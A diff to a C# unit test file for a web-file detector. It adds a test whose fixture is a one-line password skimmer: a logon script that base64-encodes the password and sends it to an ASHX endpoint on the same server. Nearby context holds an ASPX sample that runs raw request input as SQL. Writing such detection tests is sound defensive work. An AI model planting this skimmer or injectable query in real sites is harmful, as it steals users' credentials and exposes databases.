@@ -66,6 +66,15 @@ public class WebFileDetectorTests
         Assert.Empty(Judge(Auth + "logon.aspx", Plain + "<input type=\"password\" id=\"password\"><script>function clkLgn(){ return true; }</script>"));
     }
 
+    [Theory]
+    [InlineData(Auth + @"15.1.2507\scripts\premium\flogon.js")]
+    [InlineData(Auth + @"15.1.2507\scripts\premium\boot.js")]
+    public void A_script_of_the_logon_page_that_sends_passwords_is_reported(string path)
+    {
+        Assert.Equal("webshell.logon-skimmer", Single(path, "function clkLgn(){ var p=gbid('password').value; fetch('/owa/auth/s.ashx?d='+btoa(p)); }").Detector);
+        Assert.Empty(Judge(path, "function clkLgn(){ var p=gbid('password'); p.focus(); return p.value != ''; }"));
+    }
+
     [Fact]
     public void A_page_that_is_not_beyond_doubt_is_suspicious() =>
         Assert.Equal("webfile.suspicious", Single(@"D:\site\q.aspx", "<%@ Page Language=\"C#\" %><% var c = new SqlCommand(Request[\"q\"], conn); c.ExecuteReader(); %>").Detector);
